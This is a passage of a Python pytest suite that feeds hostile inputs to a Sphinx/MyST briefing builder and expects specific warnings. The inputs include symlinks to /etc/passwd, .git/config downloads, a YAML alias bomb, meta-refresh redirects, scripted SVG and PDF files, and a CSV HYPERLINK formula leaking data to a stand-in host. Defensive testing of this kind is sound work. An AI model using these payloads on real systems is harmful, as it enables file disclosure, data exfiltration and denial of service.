        [inserted('```\nLee said "a very, very hard thing to build"\n```')],
        "briefing.code",
        "index.md",
        3,
    ),
    "quotation in an abbreviation's explanation": (
        [inserted(f"The {{abbr}}`UN (Lee: {QUOTE})` met.")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "The {abbr}",
    ),
    "quotation in a toctree caption": (
        [replace("```{toctree}\nother\n", f"```{{toctree}}\n:caption: Lee: {QUOTE}\nother\n")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{toctree}",
    ),
    "quotation in an index entry": (
        [inserted(f"```{{index}} single: Lee {QUOTE}\n```")],
        EITHER_QUOTE_CHECK,
        "index.md",
        "```{index}",
    ),
    "forecast in image alt text": (
        [inserted("![Lee will likely speak again](missing.png)")],
        "briefing.judgment",
        "index.md",
        "![Lee will",
        "image.not_readable",
    ),
    "misquote in a person's name": (
        [replace(":name: Ann Lee", ':name: Ann "a very hard thing" Lee')],
        "briefing.misquote|briefing.person-name",
        "index.md",
        "```{person} lee",
    ),
    "forecast in an event's inference note": (
        [replace(":date: 2016\n", ":date: 2016\n:inferred: The schools will likely open again.\n")],
        "briefing.judgment",
        "index.md",
        "```{event} schools",
    ),
    "relative date in an event title": (
        [replace(":title: The mayor opens 12 new schools", ":title: The mayor opens 12 new schools last Tuesday")],
        "briefing.relative-date",
        "index.md",
        "```{event} schools",
    ),
    **{
        f"forecast: {words}": ([inserted(sentence)], "briefing.judgment", "index.md", sentence)
        for words, sentence in [
            ("odds are", "Odds are Lee speaks again."),
            ("in all probability", "In all probability Lee speaks again."),
            ("will", "Lee will speak again."),
            ("is poised to", "Lee is poised to speak again."),
            ("almost certainly", "Lee almost certainly speaks again."),
            ("roughly even chance", "There is a roughly even chance that Lee speaks again."),
            ("highly improbable", "A second speech by Lee is highly improbable."),
            ("remote", "The chance of a second speech is remote."),
            ("may well (red team H)", "Cooperation may well collapse."),
            ("could conceivably", "Cooperation could conceivably collapse."),
            ("at risk of", "Cooperation is at risk of collapse."),
        ]
    },
    **{
        f"relative date: {words}": (
            [inserted(f"Lee spoke {words}.")],
            "briefing.relative-date",
            "index.md",
            f"Lee spoke {words}",
        )
        for words in ["last Tuesday", "in Jan. and left", "a year ago", "yesterday", "on Friday"]
    },
    "a record whose closing fence is forgotten (new-user review: it took in the box after it)": (
        [replace('She says trust is "a very, very difficult thing to build" {cite}`2`.\n```\n', "She says trust.\n\n")],
        "briefing.unclosed",
        "index.md",
        "```{person} lee",
    ),
    "a code block never closed": (
        [append("Text.\n\n```python\nx = 1\n")],
        "briefing.unclosed",
        "index.md",
        "```python",
        "briefing.code",  # the test book shows no code
    ),
    "a letter for a digit in a number (red team AD: $6O million)": (
        [replace("the agency spent $40 million from 2010", "the agency spent $4O million from 2010")],
        "briefing.lookalike-digit",
        "index.md",
        "the agency spent $4O million",
    ),
    "an empty citation, printed as written (red team AE)": (
        [inserted("Trust is hard to build {cite}``.")],
        "briefing.unread-role",
        "index.md",
        "Trust is hard to build {cite}``",
    ),
    "a role whose backticks are unpaired": (
        [inserted("Trust is hard to build {cite}`2.")],
        "briefing.unread-role",
        "index.md",
        "Trust is hard to build {cite}`2",
        "briefing.unsupported-number",  # the 2, cited by nothing
    ),
    "a directive never closed": (
        [append("Text.\n\n:::{note}\nA note that takes in the rest.\n")],
        "briefing.unclosed",
        "index.md",
        ":::{note}",
    ),
    "lists nested 60 deep": (
        [append("- deep\n" + "\n".join("  " * depth + "- level" for depth in range(1, 60)))],
        "briefing.deep-nesting",
        "index.md",
        "- deep",
    ),
    "directives nested 300 deep": (
        [
            append(
                "".join(":" * (304 - level) + f"{{admonition}} Level {level}.\n" for level in range(300))
                + "deep words\n"
                + "".join(":" * (5 + level) + "\n" for level in range(300))
            )
        ],
        "briefing.deep-nesting",
        "index.md",
        "Level 20.",
    ),
    # red team S: the scan took each of these for a code block and skipped the rest of the page
    **{
        f"directives nested 300 deep after {name}": (
            [
                append(
                    hider
                    + "\n\n"
                    + "".join(":" * (304 - level) + f"{{admonition}} Level {level}.\n" for level in range(300))
                    + "deep words\n"
                    + "".join(":" * (5 + level) + "\n" for level in range(300))
                )
            ],
            "briefing.deep-nesting",
            "index.md",
            "Level 19.",  # the line that hides counts as a fence: one too many is safe
            *HIDDEN_AS,
        )
        for name, hider in HIDERS.items()
    },
    **{
        f"a page of more headings than a briefing holds after {name}": (
            [lambda root, hider=hider: (root / "heads.md").write_text(headings_page(1_001, hider), encoding="utf-8")],
            "briefing.heading-count",
            "heads.md",
            6 + 4 * 999 + hider.count("\n") + 2,
            *HIDDEN_AS,
        )
        for name, hider in HIDERS.items()
    },
    # red team V: each deeper line of a line block opens a level: 200 stopped the build with a
    # recursion error, 60 the PDF
    "a line block nested 60 deep": (
        [append("```{line-block}\n" + "".join(" " * depth + f"level {depth}\n" for depth in range(60)) + "```")],
        "briefing.deep-rest",
        "index.md",
        "level 20",
    ),
    "a line block of blank lines only": (
        [append("```{line-block}\n\n\n\n```")],
        "briefing.deep-rest",
        "index.md",
        "```{line-block}",
    ),
    "a reST line block nested 60 deep": (
        [append("```{eval-rst}\n" + "".join("| " + " " * depth + f"level {depth}\n" for depth in range(60)) + "```")],
        "briefing.deep-rest",
        "index.md",
        "level 20",
    ),
    "block quotes nested 60 deep": ([append(">" * 60 + " hidden words")], "briefing.deep-nesting", "index.md", ">>>>"),
    "letter under 4,000 combining marks in a page": (
        [
            raw_bytes(
                lambda b: b.replace(b"Lee spoke about", ("Le" + "\u0301" * 4000 + "e spoke about").encode()), "index.md"
            )
        ],
        "briefing.stacked-marks",
        "index.md",
        "spoke about trust",
    ),
    "letter under 4,000 combining marks in a source": (
        [raw_bytes(lambda b: b.replace(b"The mayor opened", ("The ma" + "\u0301" * 4000 + "yor opened").encode()))],
        "briefing.source",
        SOURCE,
        16,
    ),
    "the reporter's narration quoted as the analysts' words": (
        [inserted('Analysts say the new schools need "300 more teachers from abroad" {cite}`3`.')],
        "briefing.quoted-narration",
        "index.md",
        "Analysts say the new",
    ),
    "one word of narration quoted": (
        [inserted('The mayor opened "new" schools {cite}`3`.')],
        "briefing.quoted-narration",
        "index.md",
        'The mayor opened "new"',
        "briefing.unattributed",
    ),
    # -- print: characters no output can carry -----------------------------------------------------
    "noncharacter in a heading": (
        [inserted("## Trust \uffff and schools")],
        "briefing.hidden-character",
        "index.md",
        "## Trust",
    ),
    "noncharacter of another plane in a source": (
        [raw_bytes(lambda b: b.replace(b"The mayor opened", "The \U0010fffe mayor opened".encode()))],
        "briefing.source",
        SOURCE,
        16,
    ),
    # -- web and containment: a page cannot change how the book is built -------------------------------
    **{
        f"front matter tocdepth {value}": (
            [prepend(f"---\ntocdepth: {value}\n---\n")],
            "briefing.front-matter",
            "index.md",
            "tocdepth:",
        )
        for value in ['"x"', "[1, 2]", "-5", "999999999999999999999"]
    },
    "front matter that switches on substitutions": (
        [
            prepend('---\nmyst:\n  enable_extensions: ["substitution"]\n  substitutions:\n    x: "{{ 7 * 7 }}"\n---\n'),
            inserted("Value {{x}}."),
        ],
        "briefing.front-matter",
        "index.md",
        "myst:",
    ),
    "front matter with html_meta": (
        [prepend('---\nhtml_meta:\n  "http-equiv=refresh": "0; url=https://example.org/"\n---\n')],
        "briefing.front-matter",
        "index.md",
        "html_meta:",
    ),
    "front matter that Sphinx and MyST's parser end on different lines": (
        [prepend("---\norphan: true\n---x: 1\nhide-toc: true\n---\n")],
        "briefing.front-matter",
        "index.md",
        "---x: 1",
    ),
    "front matter that Sphinx ends with dots": (
        [prepend("---\norphan: true\n...\nhide-toc: true\n---\n")],
        "briefing.front-matter",
        "index.md",
        "...",
    ),
    "front matter with top-level substitutions": (
        [prepend("---\norphan: true\nsubstitutions:\n  x: y\n---\n")],
        "briefing.front-matter",
        "index.md",
        "substitutions:",
    ),
    "front matter of nested YAML aliases, a billion values in 700 bytes (red team K)": (
        [
            prepend(
                "---\nnocomments: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\nx1: &l1 [*l0, *l0, *l0, *l0, *l0, *l0, *l0, *l0, *l0]\nx2: &l2 [*l1, *l1, *l1, *l1, *l1, *l1, *l1, *l1, *l1]\nx3: &l3 [*l2, *l2, *l2, *l2, *l2, *l2, *l2, *l2, *l2]\nx4: &l4 [*l3, *l3, *l3, *l3, *l3, *l3, *l3, *l3, *l3]\nx5: &l5 [*l4, *l4, *l4, *l4, *l4, *l4, *l4, *l4, *l4]\nx6: &l6 [*l5, *l5, *l5, *l5, *l5, *l5, *l5, *l5, *l5]\nx7: &l7 [*l6, *l6, *l6, *l6, *l6, *l6, *l6, *l6, *l6]\ntocdepth: [*l7, *l7, *l7, *l7, *l7, *l7, *l7, *l7, *l7]\n---\n"
            )
        ],
        "briefing.front-matter",
        "index.md",
        3,
    ),
    "front matter in a flow mapping": (
        [prepend('---\n{myst: {html_meta: {description: "x"}}}\n---\n')],
        "briefing.front-matter",
        "index.md",
        1,
    ),
    "MyST extension substitution in conf.py": (
        [replace('["colon_fence", "deflist"]', '["colon_fence", "deflist", "substitution"]', "conf.py")],
        "briefing.refused-syntax",
        "conf.py",
        "myst_enable_extensions",
    ),
    "MyST extension dollarmath in conf.py": (
        [replace('["colon_fence", "deflist"]', '["colon_fence", "deflist", "dollarmath"]', "conf.py")],
        "briefing.refused-syntax",
        "conf.py",
        "myst_enable_extensions",
    ),
    "default source that is no source of the book (red team H)": (
        [append('briefing_default_source = "nope"', "conf.py")],
        "briefing.config",
        "conf.py",
        "briefing_default_source",
    ),
    "paragraph placed only on a page no toctree reaches (red team H)": (
        [
            replace("```{source-paragraphs} 1-3\n", "```{source-paragraphs} 1-2\n"),
            write("hidden.md", "---\norphan: true\n---\n# Hidden\n\n```{source-paragraphs} 3\n```\n"),
        ],
        "briefing.unplaced",
        "hidden.md",
        "{source-paragraphs} 3",
    ),
    "paragraphs placed in a container hidden on the web (red team J)": (
        [
            replace(
                "```{source-paragraphs} 1-3\n```\n", ":::{container} sd-d-none\n```{source-paragraphs} 1-3\n```\n:::\n"
            )
        ],
        "briefing.hidden-content",
        "index.md",
        ":::{container} sd-d-none",
    ),
    "paragraphs placed in white text (red team AE)": (
        [
            replace(
                "```{source-paragraphs} 1-3\n```\n",
                ":::{container} sd-text-white\n```{source-paragraphs} 1-3\n```\n:::\n",
            )
        ],
        "briefing.hidden-content",
        "index.md",
        ":::{container} sd-text-white",
    ),
    "a record on a background of the text's colour (red team AE)": (
        [
            replace(
                "```{source-paragraphs} 1-3\n```\n", ":::{container} sd-bg-dark\n```{source-paragraphs} 1-3\n```\n:::\n"
            )
        ],
        "briefing.hidden-content",
        "index.md",
        ":::{container} sd-bg-dark",
    ),
    "paragraphs placed in a note Furo hides (red team K)": (
        [
            replace(
                "```{source-paragraphs} 1-3\n```\n",
                "::::{note}\n:class: no-toc\n```{source-paragraphs} 1-3\n```\n::::\n",
            )
        ],
        "briefing.hidden-content",
        "index.md",
        "::::{note}",
    ),
    "a note given a card link's hidden-text classes": (
        [append(":::{note}\n:class: sd-stretched-link sd-hide-link-text\nRead the chapters in order.\n:::")],
        "briefing.hidden-content",
        "index.md",
        ":::{note}",
    ),
    "an assessment shown in one colour scheme only": (
        [append(":::{note}\n:class: only-dark\nRead the chapters in order.\n:::")],
        "briefing.hidden-content",
        "index.md",
        ":::{note}",
    ),
    "paper that is no choice": (
        [append('briefing_paper = "legal"', "conf.py")],
        "briefing.config",
        "conf.py",
        "briefing_paper",
    ),
    "Typst memory under its floor": (
        [append("briefing_pdf_memory = 100", "conf.py")],
        "briefing.config",
        "conf.py",
        "briefing_pdf_memory",
    ),
    "PDF file name that is a path": (
        [append('briefing_pdf_basename = "../../x"', "conf.py")],
        "briefing.config",
        "conf.py",
        "briefing_pdf_basename",
    ),
    "meta directive": (
        [inserted("```{meta}\n:http-equiv=refresh: 0; url=https://example.org/\n```")],
        "briefing.refused-syntax",
        "index.md",
        "```{meta}",
    ),
    "meta directive in eval-rst": (
        [inserted("```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0; url=https://example.org/\n```")],
        "briefing.refused-syntax",
        "index.md",
        ".. meta::",
    ),
    "math directive": ([inserted("```{math}\ne = mc^2\n```")], "briefing.refused-syntax", "index.md", "```{math}"),
    # red team O: MyST tried every suffix in turn for each repeated title
    "a page of more headings than a briefing holds": (
        [lambda root: (root / "heads.md").write_text(headings_page(1_001), encoding="utf-8")],
        "briefing.heading-count",
        "heads.md",
        6 + 4 * 999,
    ),
    # red team Q: each listing printed the listed page's tree of headings again
    "a page listed by two tables of contents on one page": (
        [append("```{toctree}\nother\n```\n\n```{toctree}\nother\n```")],
        "briefing.printed-twice",
        "index.md",
        97,
    ),
    # red team T: each "self" printed the page's title again, in every page's navigation
    "the page itself listed by its table of contents": (
        [append("```{toctree}\nself\n```", "other.md")],
        "briefing.printed-twice",
        "other.md",
        "```{toctree}",
    ),
    # red team T: each bare address printed itself whole, repeats too, in every page's navigation
    "a web address listed twice by tables of contents": (
        [append("```{toctree}\nhttps://example.org/a\n```\n\n```{toctree}\nhttps://example.org/a\n```", "other.md")],
        "briefing.printed-twice",
        "other.md",
        9,
    ),
    "a web address of five thousand letters in a table of contents": (
        [append("```{toctree}\nhttps://example.org/" + "a" * 5_000 + "\n```", "other.md")],
        "briefing.heading-count",
        "other.md",
        "```{toctree}",
    ),
    # a circle of tables of contents stopped Sphinx with a recursion error naming no page
    "a table of contents that lists the root page": (
        [append("```{toctree}\nindex\n```", "other.md")],
        "briefing.printed-twice",
        "other.md",
        "```{toctree}",
    ),
    # each listing of a page printed its headings again, on the page and in the navigation
    "a page listed by tables of contents on two pages": (
        [
            write("p1.md", "# Page one\n\nPlain words.\n"),
            replace("```{toctree}\nother\n", "```{toctree}\np1\nother\n"),
            append("```{toctree}\np1\n```", "other.md"),
        ],
        "briefing.printed-twice",
        "other.md",
        "```{toctree}",
    ),
    # red team S: a title given to a table of contents' entry was checked by nothing, and printed
    # in every page's navigation, of any length
    "a quotation in a table of contents' entry title": (
        [replace("```{toctree}\nother\n", '```{toctree}\nShirk said Mexico "will surely invade Texas" <other>\n')],
        "briefing.uncited-quote",
        "index.md",
        "```{toctree}",
    ),
    "a table of contents' entry title of two thousand words": (
        [replace("```{toctree}\nother\n", "```{toctree}\n" + "Word " * 2_000 + "<other>\n")],
        "briefing.heading-count",
        "index.md",
        "```{toctree}",
        "briefing.unattributed",
    ),
    # red team Q: Sphinx unpickled the target's whole page for every use, 233 s for 2,000
    "numbered reference": ([inserted("See {numref}`method`.")], "briefing.refused-syntax", "index.md", "{numref}"),
    # red team Q: every {ref} and every page's navigation printed the heading whole
    # red team T: the scan measured only the last line of a setext heading's paragraph
    "a setext heading of two hundred lines": (
        [
            append(
                "(long)=\n" + "Word word word word word word word word word word.\n" * 200 + "===\n\nSee {ref}`long`.",
                "other.md",
            )
        ],
        "briefing.heading-count",
        "other.md",
        "===",
        "ref.ref",
    ),
    # red team T: docutils stopped at the line, naming no line of the page
    "a line of reST longer than docutils reads": (
        [append("```{eval-rst}\nShort line.\n\n" + "Long " * 2_100 + "\n```", "other.md")],
        "briefing.deep-rest",
        "other.md",
        "Long Long",
    ),
    # red team T: reST headings in {eval-rst} passed both caps (underlined with "~", which no
    # Markdown heading uses, they are seen only once docutils has read them)
    "a reST heading of two thousand words": (
        [append("```{eval-rst}\n" + "Word " * 2_000 + "\n" + "~" * 10_000 + "\n\nText.\n```", "other.md")],
        "briefing.heading-count",
        "other.md",
        "~~~~~",  # docutils places a title at its underline
    ),
    "a page of more reST headings than a briefing holds": (
        [write("rst.md", REST_HEADINGS)],
        "briefing.heading-count",
        "rst.md",
        8 + 5 * 999,  # the 1,001st title (the page's own is the first), at its underline
    ),
    "a heading of two thousand words": (
        [append("(long)=\n## " + "Word " * 2_000 + "\n\nSee {ref}`long`.", "other.md")],
        "briefing.heading-count",
        "other.md",
        "## Word",
        "ref.ref",
    ),
    # red team O: each copy printed the whole source, or every record, again
    "source annex printed twice": (
        [append("```{source-annex} sample\n```")],
        "briefing.printed-twice",
        "index.md",
        "{source-annex} sample",
    ),
    "source annex on a second page": (
        [append("```{source-annex}\n```", "other.md")],
        "briefing.printed-twice",
        "other.md",
        "{source-annex}",
    ),
    "list of sources printed twice": (
        [append("```{source-list}\n```"), append("```{source-list}\n```", "other.md")],
        "briefing.printed-twice",
        "other.md",
        "{source-list}",
    ),
    "generated page printed on two pages": (
        [append("```{timeline}\n```"), append("```{timeline}\n```", "other.md")],
        "briefing.printed-twice",
        "other.md",
        "{timeline}",
    ),
    # red team O: Sphinx listed every line of the range before comparing it with the block
    "code block emphasising ten billion lines": (
        [inserted("```{code-block} text\n:emphasize-lines: 2,1-9999999999\nhello\n```")],
        "briefing.line-range",
        "index.md",
        "```{code-block}",
        "briefing.code",
    ),
    # red team V: one range repeated took memory in proportion to the repeats times the block
    "code block emphasising its lines again and again": (
        [inserted("```{code-block} text\n:emphasize-lines: " + ",".join(["1-3"] * 2) + "\na\nb\nc\n```")],
        "briefing.line-range",
        "index.md",
        "```{code-block}",
        "briefing.code",
    ),
    # an open range runs to the block's end: repeated, it named the block again each time
    "code block emphasising its lines again and again through open ranges": (
        [inserted("```{code-block} text\n:emphasize-lines: " + ",".join(["1-"] * 2) + "\na\nb\nc\n```")],
        "briefing.line-range",
        "index.md",
        "```{code-block}",
        "briefing.code",
    ),
    # red team V: every line of the block printed the number whole
    "code block numbered from a number of a thousand digits": (
        [inserted("```{code-block} text\n:linenos:\n:lineno-start: " + "9" * 1_000 + "\na\n```")],
        "briefing.line-range",
        "index.md",
        "```{code-block}",
        "briefing.code",
    ),
    # red team X: drawn a million times wider than the page, in the PDF and on the web
    "a picture a million times the page's width": (
        [
            write("wide.svg", SVG_OPEN + "<rect width='10' height='10'/></svg>"),
            append("```{image} wide.svg\n:width: 99999999%\n:alt: A dot\n```", "other.md"),
        ],
        "briefing.picture-size",
        "other.md",
        "```{image} wide.svg",
    ),
    # red team Z: code's :number-lines: passed the cap that code-block's :lineno-start: had
    "code numbered from a number of a thousand digits": (
        [inserted("```{code} text\n:number-lines: " + "9" * 1_000 + "\na\n```")],
        "briefing.line-range",
        "index.md",
        "```{code}",
        "briefing.code",
    ),
    # red team Z: lengths and scales past any page, printed into the HTML
    **{
        f"a picture {option} past any page": (
            [
                write("wide.svg", SVG_OPEN + "<rect width='10' height='10'/></svg>"),
                append(f"```{{image}} wide.svg\n:{option}: {value}\n:alt: A dot\n```", "other.md"),
            ],
            "briefing.picture-size",
            "other.md",
            "```{image} wide.svg",
        )
        for option, value in (("width", "99999999px"), ("height", "9999cm"), ("scale", "99999999"))
    },
    "math role": ([inserted("Energy {math}`a + b` here.")], "briefing.refused-syntax", "index.md", "Energy {math}"),
    "role directive in eval-rst": (
        [inserted("```{eval-rst}\n.. role:: cite(strong)\n```")],
        "briefing.refused-syntax",
        "index.md",
        ".. role::",
    ),
    "default-domain directive": (
        [inserted("```{default-domain} py\n```")],
        "briefing.refused-syntax",
        "index.md",
        "```{default-domain}",
    ),
    "directive of another domain": (
        [inserted("```{py:function} spend(amount)\nText.\n```")],
        "briefing.refused-syntax",
        "index.md",
        "```{py:function}",
    ),
    "directive of the default domain by its bare name": (
        [inserted("```{function} spend(amount)\nText.\n```")],
        "briefing.refused-syntax",
        "index.md",
        "```{function}",
    ),
    "role of another domain": (
        [inserted("See {py:func}`spend` here.")],
        "briefing.refused-syntax",
        "index.md",
        "See {py:func}",
    ),
    "role under a docutils alias": (
        [inserted("See {url}`https://example.org` here.")],
        "briefing.refused-syntax",
        "index.md",
        "See {url}",
    ),
    "lists nested 100 deep in eval-rst": (
        [inserted("```{eval-rst}\n" + nested_list(100) + "```")],
        "briefing.deep-rest",
        "index.md",
        "- item 20",
    ),
    # -- web and containment: only the book's own files are published, resolved as Sphinx resolves them --
    "image wildcard reaching a symlink out": (
        [symlink("leak.txt", "/etc/passwd"), inserted("![x](leak.*)")],
        "briefing.outside-file",
        "index.md",
        "![x](leak",
    ),
    "card image wildcard reaching a symlink out": (
        [
            symlink("leak.txt", "/etc/passwd"),
            inserted("````{grid} 1\n```{grid-item-card} Title\n:img-top: leak.*\n\nText.\n```\n````"),
        ],
        "briefing.outside-file",
        "index.md",
        "```{grid-item-card} Title",
    ),
    "reST image wildcard reaching a symlink out": (
        [symlink("leak.txt", "/etc/passwd"), inserted("```{eval-rst}\n.. image:: leak.*\n```")],
        "briefing.outside-file",
        "index.md",
        ".. image:: leak",
    ),
    "image wildcard reaching /dev/zero": (
        [symlink("zero.png", "/dev/zero"), inserted("![x](zero.*)")],
        "briefing.outside-file",
        "index.md",
        "![x](zero",
    ),
    "image symlink inside the project": (
        [write("real/pic.png", b"\x89PNG"), symlink("pic.png", "real/pic.png"), inserted("![x](pic.png)")],
        "briefing.special-file",
        "index.md",
        "![x](pic",
    ),
    "image behind a symlinked folder": (
        [write("real/pic.png", b"\x89PNG"), symlink("alias", "real"), inserted("![x](alias/pic.png)")],
        "briefing.special-file",
        "index.md",
        "![x](alias",
    ),
    "image that is a FIFO": (
        [fifo("pipe.png"), inserted("![x](pipe.png)")],
        "briefing.special-file",
        "index.md",
        "![x](pipe",
    ),
    "language variant of an image that is a symlink out": (
        [write("pic.png", b"\x89PNG"), symlink("pic.en.png", "/etc/passwd"), inserted("![x](pic.png)")],
        "briefing.outside-file",
        "index.md",
        "![x](pic",
    ),
    "download of .git/config": (
        [write(".git/config", "[remote]\n"), inserted("Get {download}`the config <.git/config>`.")],
        "briefing.private-file",
        "index.md",
        "Get {download}",
    ),
    "picture named with characters no EPUB holds (red team J)": (
        [write("a&b<c>d.png", b"\x89PNG"), inserted("```{image} a&b<c>d.png\n```")],
        "briefing.page-name",
        "index.md",
        "```{image} a&b",
    ),
    "download named with a space and a quotation mark": (
        [write("my 'notes'.txt", "x"), inserted("Get {download}`notes <my 'notes'.txt>`.")],
        "briefing.page-name",
        "index.md",
        "Get {download}`notes <my",
    ),
    "image in a dot-folder": (
        [write(".cache/pic.png", b"\x89PNG"), inserted("![x](.cache/pic.png)")],
        "briefing.private-file",
        "index.md",
        "![x](.cache",
    ),
    "download from the build folder": (
        [write("_build/notes.txt", "x"), inserted("Get {download}`notes <_build/notes.txt>`.")],
        "briefing.private-file",
        "index.md",
        "Get {download}",
    ),
    "download of an excluded path": (
        [inserted("Get {download}`the source <source/sample.md>`.")],
        "briefing.private-file",
        "index.md",
        "Get {download}",
    ),
    "download of an HTML page": (
        [write("page.html", "<script>alert('download')</script>"), inserted("Get {download}`the page <page.html>`.")],
        "briefing.file-type",
        "index.md",
        "Get {download}",
    ),
    "download of a script": (
        [write("tool.js", "alert(1)"), inserted("Get {download}`the tool <tool.js>`.")],
        "briefing.file-type",
        "index.md",
        "Get {download}",
    ),
    "image of another type": (
        [write("pic.xhtml", "<html/>"), inserted("![x](pic.xhtml)")],
        "briefing.file-type",
        "index.md",
        "![x](pic",
    ),
    "a damaged picture, which the web would show broken": (
        [write("bad.png", b"\x89PNG\r\n\x1a\nGARBAGE"), inserted("![A bad picture](bad.png)")],
        "briefing.broken-picture",
        "index.md",
        "![A bad picture]",
    ),
    "a truncated picture whose header reads well": (
        [write("cut.png", DAMAGED_PNG), inserted("![A cut picture](cut.png)")],
        "briefing.broken-picture",
        "index.md",
        "![A cut picture]",
    ),
    "an SVG that declares 3.6 billion pixels": (
        [
            write("big.svg", SVG_OPEN.replace('width="10" height="10"', 'width="60000" height="60000px"') + "</svg>"),
            inserted("![A big picture](big.svg)"),
        ],
        "briefing.unsafe-svg",
        "index.md",
        "![A big picture]",
    ),
    "a page name that a search link cannot carry": (
        [write("faq#1%41.md", "---\norphan: true\n---\n# FAQ\n\nText.\n")],
        "briefing.page-name",
        "faq#1%41.md",
        1,
    ),
    "a page name with a space, which the EPUB's spine cannot point at": (
        [write("my notes.md", "---\norphan: true\n---\n# Notes\n\nText.\n")],
        "briefing.page-name",
        "my notes.md",
        1,
    ),
    "an event whose span ends before it starts": (
        [replace(":date: 2016\n", ":date: 2016/2004\n")],
        "briefing.event-date|briefing.unsupported-number",
        "index.md",
        "```{event} schools",
    ),
    "SVG whose fill hides url() behind a CSS escape": (
        [
            write(
                "chart.svg", SVG_OPEN + '<rect width="5" height="5" fill="\\75 rl(https://tracker.example/x)"/></svg>'
            ),
            inserted("![x](chart.svg)"),
        ],
        "briefing.unsafe-svg",
        "index.md",
        "![x](chart.svg)",
    ),
    "a download whose path climbs out through a folder that does not exist": (
        [inserted("Get {download}`the config <nothere/../../.git/config>`.")],
        "briefing.outside-file|briefing.private-file",
        "index.md",
        "Get {download}",
    ),
    "SVG whose style hides url() behind a character reference": (
        [
            write("chart.svg", SVG_OPEN + "<style>rect{fill:u&#114;l(https://tracker.example/x.png)}</style></svg>"),
            inserted("![x](chart.svg)"),
        ],
        "briefing.unsafe-svg",
        "index.md",
        "![x](chart.svg)",
    ),
    "a PDF download that runs a script in its reader's viewer": (
        [
            write("brief.pdf", SCRIPTED_PDF),
            inserted("Get {download}`the brief <brief.pdf>`."),
        ],
        "briefing.active-pdf",
        "index.md",
        "Get {download}",
    ),
    "a PDF download whose script hides in a compressed stream": (
        [
            write("brief.pdf", COMPRESSED_SCRIPT_PDF),
            inserted("Get {download}`the brief <brief.pdf>`."),
        ],
        "briefing.active-pdf",
        "index.md",
        "Get {download}",
    ),
    "a PDF download whose script hides in a hexadecimal stream": (
        [
            write("brief.pdf", HEX_SCRIPT_PDF),
            inserted("Get {download}`the brief <brief.pdf>`."),
        ],
        "briefing.active-pdf",
        "index.md",
        "Get {download}",
    ),
    "a PDF download whose script hides in an ASCII85 stream of a compressed one": (
        [
            write("brief.pdf", A85_SCRIPT_PDF),
            inserted("Get {download}`the brief <brief.pdf>`."),
        ],
        "briefing.active-pdf",
        "index.md",
        "Get {download}",
    ),
    "a PDF download in an encoding the check does not read": (
        [
            write("brief.pdf", "%PDF-1.4\n1 0 obj << /Filter /LZWDecode >> stream\nxyz\nendstream endobj\n%%EOF\n"),
            inserted("Get {download}`the brief <brief.pdf>`."),
        ],
        "briefing.active-pdf",
        "index.md",
        "Get {download}",
    ),
    "a CSV download whose cell a spreadsheet runs as a formula (red team G, 9)": (
        [
            write("data.csv", 'name,value\nlee,3\nkim,"=HYPERLINK(""https://x.example/?""&A1)"\n'),
            inserted("Get {download}`the data <data.csv>`."),
        ],
        "briefing.active-download",
        "index.md",
        "Get {download}",
    ),
    "an office document download, which can fetch a template with macros (G, 10)": (
        [write("memo.docx", "PK"), inserted("Get {download}`the memo <memo.docx>`.")],
        "briefing.file-type",
        "index.md",
        "Get {download}",
    ),
    "a zip download, which packs what the book refuses (G, 11)": (
        [write("annex.zip", "PK"), inserted("Get {download}`the annex <annex.zip>`.")],
        "briefing.file-type",
        "index.md",
        "Get {download}",
    ),
    "an EPUB download, which holds pages a reader's app runs": (
        [write("more.epub", "PK"), inserted("Get {download}`more <more.epub>`.")],
        "briefing.file-type",
        "index.md",
        "Get {download}",
    ),
    "SVG image with a script": (
        [write("chart.svg", SCRIPTED_SVG), inserted("![x](chart.svg)")],
        "briefing.unsafe-svg",
        "index.md",
        "![x](chart",
    ),
    "SVG download with a handler": (
        [
            write("chart.svg", SVG_OPEN + '<rect onclick="alert(1)"/></svg>'),
            inserted("Get {download}`the chart <chart.svg>`."),
        ],
        "briefing.unsafe-svg",
        "index.md",
        "Get {download}",
    ),
    "SVG image with an entity loop": (
        [
            write("chart.svg", '<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>' + SVG_OPEN + "&b;</svg>"),
            inserted("![x](chart.svg)"),
        ],
        "briefing.unsafe-svg",
        "index.md",
        "![x](chart",
    ),
    "download in a heading": (
        [write("data.csv", "a,b\n"), inserted("## Get {download}`the data <data.csv>`")],
        "briefing.heading-download",
        "index.md",
        "## Get {download}",
    ),
    "lists nested 100 deep in an rst page": (
        [
            replace("```{toctree}\nother\n", "```{toctree}\nother\ndeep\n"),
            lambda root: (root / "deep.rst").write_text("Deep\n====\n\n" + nested_list(100), encoding="utf-8"),
        ],
        "briefing.deep-rest",
        "deep.rst",
        "- item 20",
    ),
    # -- who speaks: the source header's attribution and the speaker model --------------------------------
    "attribution with a kind that is none": refused_attribution('"2": {view: Ann Lee, kind: robot}'),
    "120 KB of capitalised words in a source": (
        [append(" ".join(f"Word{n} Name{n}" for n in range(10_000)), SOURCE)],
        "briefing.unplaced",
        SOURCE,
        20,
    ),
    "a speaker's quoted words given to someone else": (
        [inserted('Tom Park said trust is "a very, very difficult thing to build", as Ann Lee put it {cite}`2`.')],
        "briefing.misattributed",
        "index.md",
        "Tom Park said trust",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_input_fails_with_its_subtype_on_its_line(make_app, project, case: str) -> None:
    assert_case(CASES[case], project("checks"), lambda srcdir: build(make_app, srcdir, "dummy"))


def assert_case(case: tuple, srcdir: Path, built: Callable[[Path], list]) -> None:
    """Apply a case's edits, build, and find its warning where it must be, and no other kind."""
    edits, subtypes, path, where, *also = case
    for edit in edits:
        edit(srcdir)
    found = built(srcdir)
    line = where if isinstance(where, int) else line_of(srcdir / path, where)
    expected = set(subtypes.split("|"))
    hits = [w for w in found if w.subtype in expected and w.path.endswith(path) and w.line == line]
    assert hits, f"expected {subtypes} at {path}:{line}; got {found}"
    assert {w.subtype for w in found} <= expected | set(also), found


def test_a_huge_range_is_one_warning(make_app, project) -> None:
    srcdir = project("checks")
    inserted("The mayor {cite}`3-1000000`.")(srcdir)
    found = build(make_app, srcdir)
    assert [w.subtype for w in found] == ["briefing.unknown-paragraph"]


def test_a_docutils_conf_cannot_reopen_file_insertion(make_app, project, tmp_path: Path) -> None:
